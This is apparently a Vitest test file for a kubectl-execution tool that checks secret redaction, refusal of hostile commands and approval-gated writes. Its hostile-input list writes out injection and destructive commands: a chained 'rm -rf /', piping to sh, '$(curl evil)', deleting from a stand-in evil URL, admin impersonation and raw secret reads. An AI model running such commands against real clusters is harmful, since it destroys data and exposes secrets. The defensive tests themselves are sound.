import { describe, expect, it } from 'vitest';
import { MASK_BASE64 } from '../../../../src/core/kubectl/redact-api-body.js';
import { leakedSecrets } from '../registry/fixtures/planted.js';
import { callers, okText, useRegistryHarness } from '../registry/harness.js';

const h = useRegistryHarness();

// Each command must succeed (so the secret really was read) and show only masks.
const secretReads: Array<[command: string, evidence: RegExp]> = [
  ['get secret db-credentials -n shop -o yaml', /password: PHJlZGFjdGVkPg==/],
  ['get secret db-credentials -n shop -o json', /"password": "PHJlZGFjdGVkPg=="/],
  ['get secret db-credentials -n shop -o jsonpath={.data}', /"password":"PHJlZGFjdGVkPg=="/],
  ['get secret db-credentials -n shop -o jsonpath={.data.password}', /^PHJlZGFjdGVkPg==$/],
  ["get secret db-credentials -n shop -o 'jsonpath-as-json={.data.password}'", /PHJlZGFjdGVkPg==/],
  ['get secret db-credentials -n shop -o go-template={{.data.password}}', /^PHJlZGFjdGVkPg==$/],
  [
    "get secret db-credentials -n shop -o 'go-template={{range .data}}{{.}} {{end}}'",
    /^(PHJlZGFjdGVkPg== ?){2}$/,
  ],
  [
    'get secrets -n shop -o custom-columns=NAME:.metadata.name,PW:.data.password',
    /db-credentials\s+PHJlZGFjdGVkPg==/,
  ],
  ['get secrets -A -o yaml', /password: PHJlZGFjdGVkPg==[\s\S]*kind: List/],
  ['get secrets -A', /db-credentials\s+Opaque\s+2/],
  ['describe secret db-credentials -n shop', /password:\s+10 bytes/],
  ['get pods -n shop -l app=billing -o yaml', /name: DB_PASSWORD\s+value: <redacted>/],
  // kubectl's JSON escapes < and > as \u003c and \u003e.
  [
    'get deploy billing -n shop -o json',
    /"name": "STRIPE_API_KEY",\s+"value": "\\u003credacted\\u003e"/,
  ],
  ['get rs -n shop -l app=billing -o yaml', /value: <redacted>/],
  ['describe pod -n shop -l app=billing', /DB_PASSWORD:\s+<redacted>/],
  ['describe deploy billing -n shop', /STRIPE_API_KEY:\s+<redacted>/],
  ['logs deploy/billing -n shop', /connecting with Authorization: <redacted>/],
  ['logs -n shop -l app=billing --tail=-1', /service account token <redacted>/],
];

describe('execute_kubectl: planted secrets never come out', () => {
  for (const [command, evidence] of secretReads) {
    it(command, async () => {
      const outcome = await h().invoke(callers.viewer, 'execute_kubectl', { command });
      const text = okText(outcome);
      expect(text).toMatch(evidence);
      expect(leakedSecrets(outcome)).toEqual([]);
    });
  }

  it('masks Secret data as base64 so kubectl can still decode it', () => {
    expect(Buffer.from(MASK_BASE64, 'base64').toString()).toBe('<redacted>');
  });

  it('keeps the log lines that hold no secret', async () => {
    const text = okText(
      await h().invoke(callers.viewer, 'execute_kubectl', {
        command: 'logs deploy/billing -n shop',
      }),
    );
    expect(text).toContain('billing run complete');
  });

  it('redacts through the read tools too (get_pod_logs of the deployment)', async () => {
    const args = { pod: 'billing', namespace: 'shop', tailLines: 50_000 };
    const outcome = await h().invoke(callers.viewer, 'get_pod_logs', args);
    expect(okText(outcome)).toContain('service account token <redacted>');
    expect(leakedSecrets(outcome)).toEqual([]);
  });
});

describe('execute_kubectl: hostile input is refused with no side effect', () => {
  const hostile: Array<[command: string, reason: RegExp]> = [
    ['delete deploy web -n shop; rm -rf /', /without a shell|';'/],
    ['get pods | sh', /pipe/],
    ['get pods $(curl evil)', /shell|\$|\(/],
    ['scale deploy web -n shop --replicas 0 --kubeconfig /tmp/k', /--kubeconfig/],
    ['delete -f https://evil.example/x.yaml', /local files or URLs/],
    ['get --raw /api/v1/namespaces/shop/secrets', /--raw/],
    ['exec -it web -- sh', /exec/],
    ['apply -k .', /apply/],
    ['get pods --as=system:admin', /impersonation/],
    ['get pods -s http://10.0.0.1:6443', /cluster|server/i],
    ['evil-plugin do-things', /plugin/],
    ['get pods\u0000 -n shop', /control|NUL|character/i],
    [`get pods ${'a'.repeat(5000)}`, /5009 characters; the limit is 2000/],
  ];

  for (const [command, reason] of hostile) {
    it(JSON.stringify(command.slice(0, 60)), async () => {
      const pendingBefore = (await h().registry.approvals.listPending()).length;
      const outcome = await h().invoke(callers.admin, 'execute_kubectl', { command });
      expect(outcome.status).toBe('error');
      if (outcome.status !== 'error') return;
      expect(outcome.error.kind).toBe('bad-input');
      expect(outcome.error.message).toMatch(reason);
      expect((await h().registry.approvals.listPending()).length).toBe(pendingBefore);
      const web = await h().apps.readNamespacedDeployment({ name: 'web', namespace: 'shop' });
      expect(web.spec?.replicas).toBe(2);
    });
  }
});

describe('execute_kubectl: writes', () => {
  it('deletes a pod only once approved, and its deployment brings it back', async () => {
    const pods = await h().core.listNamespacedPod({ namespace: 'shop', labelSelector: 'app=web' });
    const victim = pods.items[0]?.metadata?.name as string;
    const { first, outcome } = await h().approvedInvoke(
      callers.operator,
      callers.operator2,
      'execute_kubectl',
      {
        command: `delete pod ${victim} -n shop`,
      },
    );
    expect(first.status).toBe('approval_required');
    expect(okText(outcome)).toContain(`pod "${victim}" deleted`);
    const after = await h().core.listNamespacedPod({ namespace: 'shop', labelSelector: 'app=web' });
    const names = after.items.map((p) => p.metadata?.name);
    expect(names).not.toContain(victim);
    expect(names).toHaveLength(2);
  });

  it('reports a failing kubectl command as an error with its message', async () => {
    const { outcome } = await h().approvedInvoke(
      callers.operator,
      callers.operator2,
      'execute_kubectl',
      {
        command: 'scale deploy nothere -n shop --replicas 2',
      },
    );
    expect(outcome.status).toBe('error');
    if (outcome.status === 'error') {
      expect(outcome.error.kind).toBe('not-found');
      expect(outcome.error.message).toMatch(
        /^kubectl scale failed \(exit 1\): Error from server \(NotFound\)/,
      );
    }
  });
});
